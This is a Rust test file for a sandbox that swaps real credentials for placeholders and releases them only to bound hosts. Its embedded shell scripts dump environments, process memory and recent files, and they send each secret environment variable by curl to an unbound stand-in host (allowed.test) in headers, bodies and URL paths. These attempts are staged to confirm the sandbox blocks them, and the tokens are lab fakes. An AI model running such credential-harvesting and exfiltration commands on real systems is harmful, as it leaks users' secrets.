//! Credentials that are put in at the door: what runs inside has placeholders
//! alone, and the host that each is for gets the real one. Looked for outside:
//! in all that the run printed, wrote and had in memory, and in every record.

use std::fs;
use std::path::Path;
use std::time::Duration;

use anyhow::{Result, ensure};
use serde_json::Value;
use stockade_testkit::TestUser;
use stockade_tests::Level;

use crate::lab::{Lab, Powers, Script, Seen};
use crate::sight::Sight;
use crate::task::{Task, strongest};

const GITHUB: &str = "ghp_LabGithubToken0123456789abcdefABCDEF";
const OPENAI: &str = "sk-LabOpenAiKey0123456789abcdefghijklmnop";
/// `servers.py` checks signatures with this one.
const AWS: &str = "LabAwsKey/0123456789abcdefghijklmnopqrst";
const BASIC: &str = "LabBasicPassword0123456789";
const SECRETS: [&str; 4] = [GITHUB, OPENAI, AWS, BASIC];

const ENV: &[(&str, &str)] =
    &[("GITHUB_TOKEN", GITHUB), ("OPENAI_API_KEY", OPENAI), ("AWS_SECRET_ACCESS_KEY", AWS), ("BASIC_PASSWORD", BASIC)];

const CONFIG: &str = "
[profiles.workspace.egress]
allow = ['github.test:443', 'openai.test:443', 'aws.test:443', 'basic.test:443', 'allowed.test:80']
[profiles.workspace.egress.secrets]
github = { from = 'env GITHUB_TOKEN', hosts = ['github.test:443'], kind = 'bearer' }
openai = { from = 'env OPENAI_API_KEY', hosts = ['openai.test:443'], kind = 'bearer' }
aws = { from = 'env AWS_SECRET_ACCESS_KEY', hosts = ['aws.test:443'], kind = 'aws' }
basic = { from = 'env BASIC_PASSWORD', hosts = ['basic.test:443'], kind = 'basic' }
";

/// Each credential used as its owner would use it.
const USE: &str = r#"
curl -sSf -H "Authorization: token $GITHUB_TOKEN" https://github.test/user
curl -sSf -H "Authorization: Bearer $OPENAI_API_KEY" -d '{"model":"x"}' https://openai.test/v1/chat/completions
curl -sSf --aws-sigv4 aws:amz:us-east-1:s3 --user "AKIDLAB:$AWS_SECRET_ACCESS_KEY" https://aws.test/bucket/object
curl -sSf --user "lab:$BASIC_PASSWORD" https://basic.test/
"#;

/// All that a run could look at, put where it can be judged from outside.
const LOOK: &str = r"
env > seen-env; cat /proc/[0-9]*/environ > seen-environ 2>/dev/null; cat /proc/[0-9]*/cmdline > seen-commands 2>/dev/null
/usr/bin/python3 $SHARED/probe.py dump-memory seen-memory
find .. /etc /tmp /run /var/tmp /dev/shm -xdev -type f -newer probe.sh -size -1M -not -name 'seen-*' -exec cat {} + > seen-files 2>/dev/null
";

/// Each credential carried to a host that it is not for.
const ELSEWHERE: &str = r#"
for secret in "$GITHUB_TOKEN" "$OPENAI_API_KEY" "$AWS_SECRET_ACCESS_KEY" "$BASIC_PASSWORD"; do
curl -s -m 5 -H "Authorization: Bearer $secret" http://allowed.test/header
curl -s -m 5 --noproxy '*' -d "$secret" http://allowed.test/body
curl -s -m 5 "http://allowed.test/path/$secret"
curl -s -m 5 -H "Authorization: Bearer $secret" https://openai.test/another
echo "VALUE $secret"
done
"#;

/// A credential that its host sends back, and then another host that heard of it.
const MIRROR: &str = r#"
for form in chunks trailer close large head; do
curl -sSi -m 20 -H "Authorization: Bearer $OPENAI_API_KEY" "https://openai.test/mirror/$form" > "mirror-$form"
curl -sSi -m 20 --noproxy '*' "http://allowed.test/mirror/$form" > "mirror-plain-$form"
done
echo "MIRRORED $(cat mirror-* | grep -c Bearer)"
"#;

pub fn tasks() -> Vec<Task> {
    let mut tasks = vec![
        Task::new("secrets-used/control".into(), used_in_the_open),
        Task::new("secrets-elsewhere/control".into(), carried_in_the_open),
        Task::new("secrets-mirrored/control".into(), mirrored_in_the_open),
    ];
    for user in TestUser::available_users() {
        for (name, play) in [
            ("used", used as fn(&Lab, TestUser) -> Result<()>),
            ("elsewhere", carried_elsewhere),
            ("mirrored", mirrored),
        ] {
            let name = format!("secrets-{name}/{}", user.word());
            tasks.push(Task::new(name, move |lab| play(lab, user)));
        }
    }
    tasks
}

fn script(text: &str) -> Script<'_> {
    Script { trusts_lab: false, timeout: Duration::from_secs(120), ..Script::new(text) }
}

fn powers() -> Powers<'static> {
    Powers { config: CONFIG, env: ENV, ..Powers::of(Level::Full, &[]) }
}

fn base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let encode = |chunk: &[u8]| {
        let bits = chunk.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        let letter = |n: usize| char::from(LETTERS[(bits >> (18 - 6 * n)) as usize & 63]);
        (0..4).map(|n| if n <= chunk.len() { letter(n) } else { '=' }).collect::<String>()
    };
    text.as_bytes().chunks(3).map(encode).collect()
}

/// What each upstream got.
fn arrived(sight: &Sight) -> [bool; 4] {
    let header = |host: &str, expected_value: String| {
        sight.requests().any(|r| r["host"] == host && r["headers"]["authorization"] == expected_value.as_str())
    };
    [
        header("github.test", format!("token {GITHUB}")),
        header("openai.test", format!("Bearer {OPENAI}")),
        sight.requests().any(|request| request["host"] == "aws.test" && request["signed"] == true),
        header("basic.test", format!("Basic {}", base64(&format!("lab:{BASIC}")))),
    ]
}

/// Files beneath a directory that hold one of the secrets.
fn files_with_secrets(directory: &Path, found: &mut Vec<String>) -> Result<()> {
    for entry in fs::read_dir(directory)? {
        let (path, kind) = entry.and_then(|entry| Ok((entry.path(), entry.file_type()?)))?;
        if kind.is_dir() {
            files_with_secrets(&path, found)?;
        } else if kind.is_file() {
            let bytes = fs::read(&path)?;
            let holds = |secret: &&&str| bytes.windows(secret.len()).any(|window| window == secret.as_bytes());
            found.extend(SECRETS.iter().filter(holds).map(|secret| format!("{secret} in {}", path.display())));
        }
    }
    Ok(())
}

/// Everywhere but at the bound hosts.
fn leaks(seen: &Seen) -> Result<Vec<String>> {
    let mut found = Vec::new();
    for directory in [seen.world.home(), seen.world.workspace(), seen.world.outside()] {
        files_with_secrets(&directory, &mut found)?;
    }
    let output_text = seen.output.combined_text();
    found.extend(
        SECRETS.iter().filter(|secret| output_text.contains(**secret)).map(|secret| format!("{secret} printed")),
    );
    Ok(found)
}

fn used_in_the_open(lab: &Lab) -> Result<()> {
    let text = format!("{USE}{LOOK}");
    let seen = lab.bare_with(strongest(), ENV, &script(&text))?;
    ensure!(arrived(&seen.sight) == [true; 4], "not all arrive without the sandbox: {}", seen.story());
    let leaks = leaks(&seen)?;
    for file in ["seen-env", "seen-environ", "seen-memory"] {
        ensure!(leaks.iter().any(|leak| leak.ends_with(file)), "nothing is found in {file}: {leaks:?}");
    }
    Ok(())
}

fn used(lab: &Lab, user: TestUser) -> Result<()> {
    let text = format!("{USE}{LOOK}");
    let seen = lab.sandboxed(user, powers(), &script(&text))?;
    ensure!(arrived(&seen.sight) == [true; 4], "arrived: {:?}: {}", arrived(&seen.sight), seen.story());
    ensure!(seen.output.stdout.contains("DUMPED"), "nobody looked: {}", seen.story());
    let leaks = leaks(&seen)?;
    ensure!(leaks.is_empty(), "{}\n{}", leaks.join("\n"), seen.story());
    Ok(())
}

/// What a host got that is not for it: any of the values that the script had.
fn strayed(seen: &Seen) -> Vec<String> {
    let values: Vec<&str> = seen.output.stdout.lines().filter_map(|line| line.strip_prefix("VALUE ")).collect();
    let is_bound = |request: &Value, value: &str| {
        request["host"] == "openai.test" && (value == OPENAI || values.get(1) == Some(&value))
    };
    let holds = |request: &Value| {
        let text = request.to_string();
        values.iter().chain(&SECRETS).any(|value| text.contains(*value) && !is_bound(request, value))
    };
    seen.sight.requests().filter(|request| holds(request)).map(Value::to_string).collect()
}

fn carried_in_the_open(lab: &Lab) -> Result<()> {
    let seen = lab.bare_with(strongest(), ENV, &script(ELSEWHERE))?;
    ensure!(strayed(&seen).len() >= 8, "it does not arrive without the sandbox: {}", seen.story());
    Ok(())
}

fn carried_elsewhere(lab: &Lab, user: TestUser) -> Result<()> {
    let seen = lab.sandboxed(user, powers(), &script(ELSEWHERE))?;
    let values = seen.output.stdout.lines().filter(|line| line.starts_with("VALUE ") && line.len() > 20).count();
    ensure!(values == SECRETS.len(), "not every credential has a placeholder: {}", seen.story());
    let strayed = [strayed(&seen), leaks(&seen)?].concat();
    ensure!(strayed.is_empty(), "{}\n{}", strayed.join("\n"), seen.story());
    ensure!(!seen.refused().is_empty(), "no refusal is on record: {}", seen.story());
    Ok(())
}

fn mirrored_in_the_open(lab: &Lab) -> Result<()> {
    let seen = lab.bare_with(strongest(), ENV, &script(MIRROR))?;
    let leaks = leaks(&seen)?;
    ensure!(leaks.len() == 10, "it does not come back in every form without the sandbox: {leaks:?} {}", seen.story());
    Ok(())
}

fn mirrored(lab: &Lab, user: TestUser) -> Result<()> {
    let seen = lab.sandboxed(user, powers(), &script(MIRROR))?;
    ensure!(seen.output.stdout.contains("MIRRORED 10"), "not every answer came: {}", seen.story());
    let leaks = leaks(&seen)?;
    ensure!(leaks.is_empty(), "{}\n{}", leaks.join("\n"), seen.story());
    Ok(())
}
